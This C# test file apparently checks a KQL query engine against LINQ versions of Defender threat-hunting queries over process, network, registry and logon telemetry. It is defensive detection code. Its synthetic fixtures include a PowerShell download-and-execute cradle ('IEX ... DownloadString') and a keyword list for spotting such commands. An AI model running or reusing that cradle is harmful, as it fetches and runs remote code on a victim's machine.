using System;
using System.Globalization;
using System.Linq;
using System.Text.Json;
using System.Text.RegularExpressions;
using Defender365Typed.Tests.Golden;

namespace Defender365Typed.KqlEngine.Tests;

/// <summary>Golden projections (ProjectionTests): renames and bracketed names, computed columns, conversions of strings.</summary>
public sealed partial class GoldenVersusLinqTests
{
    [Fact]
    public void Computed_result_shape() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Computed_result_shape()),
        Rows("DeviceProcessEvents")
            .Where(r => r.T > Ago(Day) && Ci(r.S("FileName"), "cmd.exe"))
            .Select(r => new object?[] { r.T, r["DeviceName"], r.S("AccountDomain") + "\\" + r.S("AccountName"), r["ProcessCommandLine"], r.S("InitiatingProcessFileName").ToLowerInvariant() })
            .Where(x => Contains((string)x[3]!, "/c") && (string)x[4]! != "explorer.exe")
            .Take(1000),
        columns: ["Timestamp", "Device", "Account", "Command", "Parent"]);

    [Fact]
    public void Process_tree_with_aliases_and_computed_columns() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Process_tree_with_aliases_and_computed_columns()),
        Rows("DeviceProcessEvents")
            .Where(r => r.T > Ago(TimeSpan.FromHours(1)))
            .Select(r => new object?[]
            {
                r.T, r["DeviceName"], r["InitiatingProcessFileName"], r["FileName"], (long)r.S("ProcessCommandLine").Length,
                r.S("ProcessCommandLine").ToLowerInvariant(), r.S("FileName").ToUpperInvariant(), r.S("AccountDomain") + "\\" + r.S("AccountName"),
            }),
        columns: ["Timestamp", "Device", "Parent", "Child", "CommandLength", "Command", "Image", "Account"]);

    [Fact]
    public void Long_command_lines_via_extend() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Long_command_lines_via_extend()),
        Rows("DeviceProcessEvents")
            .Where(r => r.T > Ago(Day) && r.S("ProcessCommandLine").Length > 1000)
            .OrderByDescending(r => r.S("ProcessCommandLine").Length)
            .Take(50)
            .Select(r => new object?[] { r.T, r["DeviceName"], r["FileName"], (long)r.S("ProcessCommandLine").Length, r["ProcessCommandLine"] }),
        ordered: true);

    [Fact]
    public void Base64_blob_extracted_from_command_line() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Base64_blob_extracted_from_command_line()),
        Rows("DeviceProcessEvents")
            .Where(r => Has(r.S("ProcessCommandLine"), "FromBase64String") || Has(r.S("ProcessCommandLine"), "-enc"))
            .Select(r => (Row: r, Blob: Regex.Match(r.S("ProcessCommandLine"), "([A-Za-z0-9+/]{50,}={0,2})") is { Success: true } m ? m.Groups[1].Value : ""))
            .Where(x => x.Blob.Length > 0 && x.Blob.Length % 4 == 0)
            .Select(x =>
            {
                int offset = x.Row.S("ProcessCommandLine").IndexOf(x.Blob, StringComparison.Ordinal);
                return new object?[] { x.Row.T, x.Row["DeviceName"], x.Blob, (long)offset, x.Row.S("ProcessCommandLine")[..offset] };
            }),
        columns: ["Timestamp", "DeviceName", "Blob", "BlobOffset", "Prefix"]);

    [Fact]
    public void Path_parts_and_string_rewrites() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Path_parts_and_string_rewrites()),
        Rows("DeviceFileEvents")
            .Where(r => Contains(r.S("FolderPath"), @"\Users\"))
            .Select(r =>
            {
                string path = r.S("FolderPath"), file = r.S("FileName");
                string[] parts = path.Split('\\');
                string profile = parts.Length > 2 ? parts[2] : "";
                string generic = profile.Length == 0 ? path : path.Replace(profile, "<user>", StringComparison.Ordinal);
                int dot = file.IndexOf('.', StringComparison.Ordinal);
                string afterDot = file[Math.Min(file.Length, dot + 1)..];
                return new object?[] { r.T, r["DeviceName"], profile, generic, afterDot, file[..Math.Min(8, file.Length)] };
            }),
        columns: ["Timestamp", "DeviceName", "UserProfile", "GenericPath", "AfterFirstDot", "ShortName"]);

    [Fact]
    public void Calendar_functions_on_timestamps() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Calendar_functions_on_timestamps()),
        Rows("DeviceLogonEvents")
            .Where(r => r.T > Ago(TimeSpan.FromDays(90)))
            .Select(r =>
            {
                DateTime t = r.T, day = t.Date;
                return new object?[]
                {
                    t, r["AccountName"], day, day.AddDays(-(int)t.DayOfWeek), new DateTime(t.Year, t.Month, 1, 0, 0, 0, DateTimeKind.Utc),
                    new DateTime(t.Year, 1, 1, 0, 0, 0, DateTimeKind.Utc), day.AddDays(1).AddTicks(-1), t.Day, TimeSpan.FromDays((int)t.DayOfWeek), t.Hour,
                    t.ToString("yyyy-MM-dd HH:mm", System.Globalization.CultureInfo.InvariantCulture), Now - t,
                };
            }),
        columns: ["Timestamp", "AccountName", "Day", "Week", "Month", "Year", "DayEnd", "DayOfMonth", "Weekday", "Hour", "Display", "Age"]);

    [Fact]
    public void Who_logged_on_with_fallbacks() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Who_logged_on_with_fallbacks()),
        Rows("IdentityLogonEvents")
            .Where(r => r.T > Ago(Day))
            .Select(r =>
            {
                string upn = r.S("AccountUpn");
                return new object?[]
                {
                    r.T, upn.Length > 0 ? upn : r.S("AccountName"), r.S("ActionType") == "LogonSuccess" ? "ok" : "failed: " + r.S("FailureReason"),
                    r.I("Port") ?? 0, upn[(upn.IndexOf('@', StringComparison.Ordinal) + 1)..].ToLowerInvariant(), r["IPAddress"],
                };
            }),
        columns: ["Timestamp", "Who", "Outcome", "SourcePort", "UpnSuffix", "IPAddress"]);

    [Fact]
    public void Distinct_device_and_remote_url_pairs() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Distinct_device_and_remote_url_pairs()),
        Rows("DeviceNetworkEvents")
            .Where(r => r.T > Ago(Day) && (Has(r.S("RemoteUrl"), "ngrok") || EndsCi(r.S("RemoteUrl"), ".trycloudflare.com")))
            .Select(r => (r.S("DeviceName"), r.S("RemoteUrl"), r.S("InitiatingProcessFileName")))
            .Distinct()
            .Select(x => new object?[] { x.Item1, x.Item2, x.Item3 }));

    [Fact]
    public void Latest_device_inventory_without_noise_columns()
    {
        KqlResultTable actual = RunGolden(() => new ProjectionTests().Latest_device_inventory_without_noise_columns());
        string[] removed = ["AdditionalFields", "ReportId", "MergedDeviceIds", "MergedToDeviceId", "ClientVersion"];
        string[] rest = HuntingSchema.Columns("DeviceInfo").Select(c => c.Name)
            .Where(n => n is not ("DeviceId" or "Timestamp") && !removed.Contains(n)).ToArray();
        AssertSameRows(
            actual,
            Rows("DeviceInfo")
                .Where(r => r.T > Ago(Day))
                .GroupBy(r => r.S("DeviceId"))
                .Select(g => g.MaxBy(r => r.T)!)
                .Where(r => r.S("OnboardingStatus") == "Onboarded" && StartsCi(r.S("OSPlatform"), "Windows"))
                .Select(r => new object?[] { r["DeviceId"], r.T }.Concat(rest.Select(c => r[c])).ToArray()),
            columns: ["DeviceId", "Timestamp", .. rest]);
    }

    [Fact]
    public void Renamed_columns_then_a_result_shape() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Renamed_columns_then_a_result_shape()),
        Rows("DeviceNetworkEvents")
            .Where(r => r.T > Ago(Day) && r.S("RemoteUrl").Length > 0)
            .Where(r => InCi(r.S("InitiatingProcessFileName"), "powershell.exe", "rundll32.exe", "regsvr32.exe"))
            .Where(r => !EndsCi(r.S("RemoteUrl"), ".microsoft.com"))
            .OrderBy(r => r.S("DeviceName"), StringComparer.Ordinal)
            .ThenByDescending(r => r.T)
            .Select(r => new object?[] { r.T, r["DeviceName"], r["InitiatingProcessFileName"], r["RemoteUrl"] }),
        ordered: true,
        columns: ["Timestamp", "DeviceName", "Process", "RemoteUrl"]);

    [Fact]
    public void Uac_disabled_through_the_registry()
    {
        SyntheticDataset data = With(("DeviceRegistryEvents", """
            [
              {"Timestamp": "2025-06-01T01:00:00Z", "DeviceName": "p1", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "1", "InitiatingProcessCommandLine": "reg add lua 0"},
              {"Timestamp": "2025-06-01T02:00:00Z", "DeviceName": "p2", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "ConsentPromptBehaviorAdmin", "RegistryValueData": "0.25", "InitiatingProcessCommandLine": "set quarter"},
              {"Timestamp": "2025-06-01T03:00:00Z", "DeviceName": "p3", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "unknown", "InitiatingProcessCommandLine": "text before"},
              {"Timestamp": "2025-06-01T04:00:00Z", "DeviceName": "f1", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "1", "InitiatingProcessCommandLine": "enable"},
              {"Timestamp": "2025-06-01T05:00:00Z", "DeviceName": "f2", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "0", "InitiatingProcessCommandLine": "already off"},
              {"Timestamp": "2025-06-01T06:00:00Z", "DeviceName": "f3", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "enablelua", "RegistryValueData": "0", "InitiatingProcessCommandLine": "lower-case name"},
              {"Timestamp": "2025-06-01T07:00:00Z", "DeviceName": "f4", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "InitiatingProcessCommandLine": "sub key"},
              {"Timestamp": "2025-06-01T08:00:00Z", "DeviceName": "f5", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "abc", "InitiatingProcessCommandLine": "not a number"},
              {"Timestamp": "2025-06-01T09:00:00Z", "DeviceName": "f6", "ActionType": "RegistryValueDeleted", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "InitiatingProcessCommandLine": "deleted"}
            ]
            """));
        static long? ToLong(string s) => long.TryParse(s, NumberStyles.Integer, CultureInfo.InvariantCulture, out long v) ? v : null;
        static double? ToReal(string s) => double.TryParse(s, NumberStyles.Float, CultureInfo.InvariantCulture, out double v) ? v : null;
        AssertSameRows(
            RunGolden(() => new ProjectionTests().Uac_disabled_through_the_registry(), data),
            Rows(data, "DeviceRegistryEvents")
                .Where(r => r.S("ActionType") == "RegistryValueSet")
                .Where(r => EndsCi(r.S("RegistryKey"), @"\Policies\System") && r.S("RegistryValueName") is "EnableLUA" or "ConsentPromptBehaviorAdmin")
                .Where(r => ToLong(r.S("RegistryValueData")) == 0 || ToReal(r.S("RegistryValueData")) < 0.5)
                .Where(r => ToLong(r.S("PreviousRegistryValueData")) is null or not 0)
                .Select(r => new object?[] { r.T, r["DeviceName"], r["RegistryKey"], r["RegistryValueName"], r["RegistryValueData"], r["InitiatingProcessCommandLine"] }),
            count: 3);
    }

    [Fact]
    public void Keyword_and_spaced_identifiers_are_bracketed()
    {
        SyntheticDataset data = With(("DeviceEvents", """
            [
              {"Timestamp": "2025-06-01T01:00:00Z", "DeviceName": "p1", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"}", "InitiatingProcessCommandLine": "powershell.exe -nop"},
              {"Timestamp": "2025-06-01T02:00:00Z", "DeviceName": "p2", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"Invoke-Expression $a\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T03:00:00Z", "DeviceName": "f1", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"Get-Process\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T04:00:00Z", "DeviceName": "f2", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"iex $x\"}"},
              {"Timestamp": "2025-06-01T05:00:00Z", "DeviceName": "f3", "ActionType": "AmsiScriptContent", "AdditionalFields": "{\"Command\": \"IEX\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T06:00:00Z", "DeviceName": "f4", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"IEXPLORE.exe\"}", "InitiatingProcessCommandLine": "pwsh"}
            ]
            """));
        AssertSameRows(
            RunGolden(() => new ProjectionTests().Keyword_and_spaced_identifiers_are_bracketed(), data),
            Rows(data, "DeviceEvents")
                .Where(r => r.S("ActionType") == "PowerShellCommand")
                .Select(r => (Row: r, Command: JsonDocument.Parse(r.S("AdditionalFields")).RootElement.GetProperty("Command").GetString()!))
                .Select(x => (x.Row, x.Command, Risk: new[] { "Invoke-Expression", "IEX", "DownloadString" }.Any(t => Has(x.Command, t)) ? 100L : 10L))
                .Where(x => x.Risk >= 50 && x.Row.S("InitiatingProcessCommandLine").Length > 0)
                .Select(x => new object?[] { x.Row.T, x.Row["DeviceName"], x.Command, x.Risk, x.Row["InitiatingProcessCommandLine"], x.Command }),
            columns: ["Timestamp", "DeviceName", "where", "Risk score", "it's", "by"],
            count: 2);
    }

    [Fact]
    public void String_conversions_to_dates_and_guids()
    {
        SyntheticDataset data = With(("DeviceEvents", """
            [
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "p1", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Updater\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T09:58:00Z\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "p2", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Edge\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T10:05:00\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f1", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Early\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T09:55:00Z\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f2", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Bad\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"not a date\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f3", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\NoDate\"}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f4", "ActionType": "ScheduledTaskUpdated", "AdditionalFields": "{\"TaskName\": \"\\\\Other\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T10:00:00Z\"}}}"}
            ]
            """));
        static DateTime? TaskDate(JsonElement fields) =>
            fields.TryGetProperty("TaskContent", out JsonElement c) && c.TryGetProperty("RegistrationInfo", out JsonElement i) && i.TryGetProperty("Date", out JsonElement d)
            && DateTime.TryParse(d.GetString(), CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal, out DateTime t)
                ? t
                : null;
        AssertSameRows(
            RunGolden(() => new ProjectionTests().String_conversions_to_dates_and_guids(), data),
            Rows(data, "DeviceEvents")
                .Where(r => r.S("ActionType") == "ScheduledTaskCreated")
                .Select(r => (Row: r, Fields: JsonDocument.Parse(r.S("AdditionalFields")).RootElement))
                .Select(x => (x.Row, x.Fields, Created: TaskDate(x.Fields)))
                .Where(x => x.Created > x.Row.T - TimeSpan.FromMinutes(5) && x.Created <= x.Row.T + TimeSpan.FromMinutes(5))
                .Select(x => new object?[] { x.Row.T, x.Row["DeviceName"], x.Created, x.Fields.GetProperty("TaskName").GetString() }),
            columns: ["Timestamp", "DeviceName", "TaskCreated", "TaskName"],
            count: 2);
    }
}
